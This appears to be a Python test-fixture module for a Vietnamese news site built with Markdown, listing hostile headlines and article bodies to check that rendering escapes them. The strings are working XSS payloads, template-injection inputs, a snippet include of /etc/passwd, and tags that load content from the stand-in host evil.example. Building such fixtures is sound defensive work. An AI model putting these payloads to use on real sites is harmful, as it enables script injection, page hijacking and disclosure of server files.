"""Headlines and bodies that would take the site over, if anything of them came alive.

Whatever runs sets `window.pwned`; whatever is fetched comes from `evil.example`.
"""

from __future__ import annotations

RUN = "window.pwned=1"
EVIL = "https://evil.example"

TITLES = {
    "script": f"<script>{RUN}</script>",
    "title-end": f"</title><script>{RUN}</script>",
    "script-end": f"</script><script>{RUN}</script>",
    "comment": "Trước <!-- sau",
    "comment-end": f"--><script>{RUN}</script><!--",
    "expression": "{{ 7*7 }} {{ config.site_name }}",
    "statement": '{% raw %} {% include "mkdocs.yml" %}',
    "jinja-comment": "{# ghi chú #} còn lại",
    "double-quotes": f'"><img src=x onerror="{RUN}">',
    "single-quotes": f"' onmouseover='{RUN}",
    "backticks": "`mã` và ``mã``",
    "entities": "A &amp; B &lt;i&gt;nghiêng&lt;/i&gt; &#60;u&#62; &copy",
    "ampersand": "A & B &",
    "pipe": "a | b || c",
    "colon": "Bộ trưởng: đã rõ: xong",
    "hyphens": "---",
    "dots": "...",
    "hash": "# Thăng *sao* _gạch_ ~ngã~",
    "yaml": "!tag &neo *bí danh %YAML @ `",
    "long": ("Tít dài năm nghìn ký tự " * 250)[:4999] + "!",
    "one-word": "d" * 5000,
    "emoji": "😀🇻🇳👩🏽‍💻",
    "right-to-left": "An toàn \u202egnp.exe \u2066cuối",
    "image": f"<img src=x onerror={RUN}>",
    "drawing": f"<svg/onload={RUN}>",
    "link": f"[bấm](javascript:{RUN}) <javascript:{RUN}>",
    "attributes": f'Tít {{: onclick="{RUN}" }}',
    "snippet": '--8<-- "mkdocs.yml"',
    "base": f"<base href={EVIL}/>",
    "backslash": "\\ \\\\ \\< \\n C:\\x",
    "plain-text": "<plaintext>",
}

BODIES = {
    "visible-script": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "script": f"<script>{RUN}</script>",
    "script-in-line": f"Chữ <script>{RUN}</script> chữ.",
    "script-src": f"<script src='{EVIL}/x.js'></script>",
    "script-link": f"[bấm](javascript:{RUN}) [bấm](JaVaScRiPt:{RUN}) [bấm](&#106;avascript:{RUN})",
    "script-link-hidden": f"[bấm](java&Tab;script:{RUN}) [bấm](<java script:{RUN}> 'x')",
    "script-autolink": f"<javascript:{RUN}> <JAVASCRIPT&colon;{RUN}>",
    "script-reference": f"[bấm][1]\n\n[1]: javascript:{RUN}",
    "data-link": f"[bấm](data:text/html,<script>{RUN}</script>) [bấm](vbscript:x)",
    "script-picture": f"![ảnh](javascript:{RUN}) ![ảnh](x.png 'y\" onerror={RUN} z=\"')",
    "foreign-picture": f"![ảnh]({EVIL}/x.png) ![ảnh](//evil.example/x.png)",
    "alt-text": f'![a" onerror="{RUN}](khong-co.png)',
    "link-title": f"[chữ](https://example.org 'a\" onmouseover=\"{RUN}')",
    "attribute-list": f'Đoạn này.\n{{: onclick="{RUN}" onmouseover="{RUN}" }}',
    "attribute-in-line": f"*chữ*{{: onclick={RUN} }}",
    "heading": f"## Tít phụ <img src=x onerror={RUN}> {{: onclick={RUN} }}",
    "snippet": '--8<-- "mkdocs.yml"\n\n--8<-- "/etc/passwd"',
    "macro": '{{ config.site_name }} {% include "main.html" %} {# x #}',
    "raw-block": f"<div markdown='1' onclick='{RUN}'>\n\n**trong khối**\n\n</div>",
    "event": f"<p onmouseover={RUN} onpointerenter={RUN}>chữ</p>",
    "image-error": f"<img src=x onerror={RUN}><img src='{EVIL}/x.png'>",
    "drawing": f"<svg onload={RUN}><script>{RUN}</script><animate onbegin={RUN} /></svg>",
    "base": f"<base href='{EVIL}/'>",
    "refresh": f"<meta http-equiv='refresh' content='0;url={EVIL}/'>",
    "frame": f"<iframe src='{EVIL}/'></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "form": f"<form action='{EVIL}/'><input autofocus onfocus={RUN}><button>gửi</button></form>",
    "object": f"<object data='{EVIL}/x'></object><embed src='{EVIL}/x'>",
    "style": f"<style>body{{display:none;background:url({EVIL}/x)}}</style>",
    "style-link": f"<link rel='stylesheet' href='{EVIL}/x.css'>",
    "details": f"<details open ontoggle={RUN}>chữ</details>",
    "video": f"<video src=x onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    "comment-open": "Chữ <!-- không đóng",
    "comment-block": "<!-- không đóng",
    "comment-closed": f"<!--><img src=x onerror={RUN}>-->",
    "declaration": "<!DOCTYPE html> <![CDATA[ chữ ]]> <?php chữ ?>",
    "declaration-open": "<![CDATA[ không đóng",
    "instruction-open": "<? không đóng",
    "text-area": "<textarea>",
    "text-area-in-line": "Chữ <textarea> <title> <xmp> <noscript> chữ",
    "plain-text": "<plaintext>",
    "title-open": "<title>",
    "table-open": "<table><tr><td>",
    "half-tag": f"Chữ <img src=x onerror={RUN} ",
    "closing-tags": "</p></div></article></main></body></html>",
    "code-block": f"```\n</code></pre><script>{RUN}</script>\n```",
    "code-language": f'``` "><script>{RUN}</script>\nmã\n```',
    "code-in-line": f"`</code><img src=x onerror={RUN}>`",
    "indented": f"    <script>{RUN}</script>",
    "table": f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |",
    "list": f"- <img src=x onerror={RUN}>\n- [x](javascript:{RUN})",
    "quote": f"> <img src=x onerror={RUN}>\n> <script>{RUN}</script>",
    "note": f'!!! note "<script>{RUN}</script>"\n    chữ',
    "abbreviation": f"*[chữ]: <script>{RUN}</script>\n\nchữ",
    "footnote": f"chữ[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    "placeholder": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 klzzwxh:0000",
    "front-matter": "---\ntitle: khác\ntemplate: redirect.html\n---",
    "link-in-link": f"[chữ <img src=x onerror={RUN}>](https://example.org)",
    "entity-split": f"<scr\u0000ipt>{RUN}</scr\u0000ipt> <\u200bscript>{RUN}</script>",
    "deep": "> " * 120 + "sâu",
}


def before(name: str) -> str:
    """A harmless sentence that stands before what is hostile."""
    return f"Hội nghị về hợp tác kinh tế đã khai mạc sáng nay tại Hà Nội, theo mục {name} số một."


def after(name: str) -> str:
    """A harmless sentence that stands after it."""
    return f"Hai bên nhất trí tiếp tục trao đổi đoàn các cấp trong năm tới, theo mục {name} số hai."


def token(number: int) -> str:
    """A word that only one article has, to find it by."""
    return f"zq{number:03}x"
